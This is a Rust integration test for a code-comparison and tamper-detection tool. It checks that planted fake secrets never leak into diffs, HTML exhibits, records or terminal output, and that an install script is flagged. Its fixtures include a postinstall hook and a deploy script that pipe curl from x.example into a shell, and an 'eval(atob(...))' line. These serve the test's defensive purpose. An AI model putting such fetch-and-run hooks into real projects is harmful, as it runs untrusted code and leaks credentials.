//! Secrets stand in no text that is made for people: a diff, the pages with both sides, an exhibit, signs of tampering.
//!
//! They are made when a test runs. What must not be seen is every piece of one that is long enough to be of use, so that a
//! cut, an escape or a line's end hides no leak from the test.

mod common;

use std::ffi::OsStr;
use std::path::{Path, PathBuf};

use common::{run, scan, scratch, write_all};
use strandline::exposure::secrets::examples::expand;

/// Bytes of a secret that nobody may see together.
const PIECE: usize = 8;

fn made(template: &str, purpose: &str) -> String {
    String::from_utf8(expand(template, purpose).unwrap()).unwrap()
}

/// A work, and a copy with secrets of many sorts in what it changed, added and kept.
struct Planted {
    folder: tempfile::TempDir,
    /// What must not be seen: bodies of secrets, without what names their kind.
    secrets: Vec<String>,
}

fn program(seed: u64) -> Vec<String> {
    let line = |n: u64| {
        format!(
            "export const value{n} = combine(value{seed}, 'part {}', {});",
            n * 7,
            seed + n * 31
        )
    };
    (0..40).map(line).collect()
}

impl Planted {
    fn new() -> Self {
        let token = |n: &str| made("<<crc62 ghp_>>", n);
        let (near, added, hook, long, both) =
            (token("1"), token("2"), token("3"), token("4"), token("5"));
        let key = made("<<make pkcs8-ed25519>>", "key");
        let password = made("<<base62 24>>", "password");
        let url = made("<<base62 18>>", "url");
        // What is no finding: a setting by its name, and a key whose end is missing.
        let setting = made("<<base62 20>>", "setting");
        let cut_key = made("<<make pkcs1-rsa>>", "cut");
        let cut_key: Vec<&str> = cut_key.lines().take(3).collect();
        let cut = |text: &str| text.strip_prefix("ghp_").unwrap_or(text).to_owned();
        let mut secrets: Vec<String> = [&near, &added, &hook, &long, &both]
            .map(|one| cut(one))
            .into();
        secrets.extend([password.clone(), url.clone(), setting.clone()]);
        secrets.extend(cut_key.iter().skip(1).map(|line| (*line).to_owned()));
        let body = key.lines().filter(|line| !line.starts_with("-----"));
        secrets.extend(body.map(str::to_owned));

        let mut original = program(1);
        original.insert(20, format!("const both = '{both}';"));
        let mut copy = original.clone();
        copy[10] = format!("const near = '{near}';");
        // Context of a change, and a key over several lines.
        copy.insert(23, format!("const pem = `\n{key}`;"));
        copy.insert(24, format!("const password = \"{password}\";"));
        let filler = "f(1); ".repeat(600);
        copy.insert(
            25,
            format!("{filler}const t = '{long}'; eval(atob(fetched)); {filler}"),
        );
        let text = |lines: &[String]| lines.join("\n") + "\n";
        let manifest =
            |script: &str| format!("{{\"name\": \"w\", \"version\": \"1.0.0\"{script}}}\n");
        let install = format!(
            ", \"scripts\": {{\"postinstall\": \"curl -H 'Authorization: Bearer {hook}' https://x.example/ | sh\"}}"
        );
        let wide: Vec<u8> = [0xFF, 0xFE]
            .into_iter()
            .chain(
                format!("token = {added}\r\n")
                    .encode_utf16()
                    .flat_map(u16::to_le_bytes),
            )
            .collect();
        let folder = scratch();
        write_all(
            &folder.path().join("work"),
            &[
                ("src/a.js", text(&original)),
                ("package.json", manifest("")),
            ],
        );
        write_all(
            &folder.path().join("copy"),
            &[
                ("src/a.js", text(&copy).into_bytes()),
                ("package.json", manifest(&install).into_bytes()),
                (
                    "new/deploy.sh",
                    format!("curl https://deploy:{url}@x.example/get | bash\n").into_bytes(),
                ),
                ("new/.env", format!("DB_PASSWORD={setting}\n").into_bytes()),
                ("new/cut.pem", cut_key.join("\n").into_bytes()),
                ("new/wide.txt", wide),
            ],
        );
        Self { folder, secrets }
    }

    fn at(&self, name: &str) -> PathBuf {
        self.folder.path().join(name)
    }

    /// No piece of any secret is in a text, however its lines are broken and its characters escaped.
    #[track_caller]
    fn assert_none_in(&self, text: &str, what: &str) {
        let plain = text.replace("&#43;", "+").replace("&#47;", "/");
        for secret in &self.secrets {
            for piece in secret.as_bytes().windows(PIECE) {
                let piece = std::str::from_utf8(piece).unwrap();
                assert!(
                    !plain.contains(piece),
                    "{what} shows `{piece}` of {secret}:\n{text}"
                );
            }
        }
    }
}

fn read(path: &Path) -> String {
    String::from_utf8(std::fs::read(path).unwrap()).unwrap()
}

#[test]
fn what_compare_writes_holds_no_secret() {
    let planted = Planted::new();
    let (diff, html, jsonl) = (
        planted.at("a.diff"),
        planted.at("a.html"),
        planted.at("a.jsonl"),
    );
    let (work, copy) = (planted.at("work"), planted.at("copy"));
    let ran = run([
        OsStr::new("compare"),
        work.as_os_str(),
        copy.as_os_str(),
        OsStr::new("--diff"),
        diff.as_os_str(),
        OsStr::new("--html"),
        html.as_os_str(),
        OsStr::new("--jsonl"),
        jsonl.as_os_str(),
        OsStr::new("--snippet-lines"),
        OsStr::new("200"),
    ])
    .expect(0);
    let (diff, html) = (read(&diff), read(&html));
    // What is shown beside them is there: the files, and that something is masked.
    for told in [
        "new/deploy.sh",
        "new/wide.txt",
        "ghp_****",
        "const password = ",
        "const near = ",
    ] {
        assert!(diff.contains(told), "the diff lacks {told}:\n{diff}");
        assert!(html.contains(told), "the page lacks {told}");
    }
    assert!(diff.starts_with("Made to be read") && diff.contains("overwritten"));
    assert!(html.contains("overwritten with <code>*</code>"));
    let jsonl = read(&jsonl);
    assert!(
        jsonl.contains("install-script") && ran.text().contains("install-script"),
        "{ran}"
    );
    for (text, what) in [
        (diff.as_str(), "the diff"),
        (&html, "the page"),
        (&jsonl, "a record"),
        (ran.text(), "the terminal"),
        (&ran.stderr, "standard error"),
    ] {
        planted.assert_none_in(text, what);
    }
}

#[test]
fn an_exhibit_holds_no_secret_and_its_digests_are_those_of_the_bytes() {
    let planted = Planted::new();
    let (work, copy) = (planted.at("work"), planted.at("copy"));
    let (set, case, page) = (
        planted.at("w.sigset"),
        planted.at("a.case"),
        planted.at("a.html"),
    );
    run([
        OsStr::new("sign"),
        work.as_os_str(),
        OsStr::new("--work"),
        OsStr::new("w"),
        OsStr::new("--release"),
        OsStr::new("1"),
        OsStr::new("--output"),
        set.as_os_str(),
    ])
    .expect(0);
    scan(
        0,
        [
            copy.as_os_str(),
            OsStr::new("--signatures"),
            set.as_os_str(),
            OsStr::new("--case"),
            case.as_os_str(),
        ],
    );
    let ran = run([
        OsStr::new("explain"),
        case.as_os_str(),
        OsStr::new("copy/src/a.js"),
        OsStr::new("--original"),
        work.as_os_str(),
        OsStr::new("--html"),
        page.as_os_str(),
    ])
    .expect(0);
    let page = read(&page);
    let sha256 = common::sha256(&std::fs::read(copy.join("src/a.js")).unwrap());
    assert!(
        page.contains(&sha256) && page.contains("ghp_****"),
        "{page}"
    );
    assert!(page.contains("overwritten with <code>*</code>"));
    planted.assert_none_in(&page, "the exhibit");
    planted.assert_none_in(ran.text(), "the terminal");
}
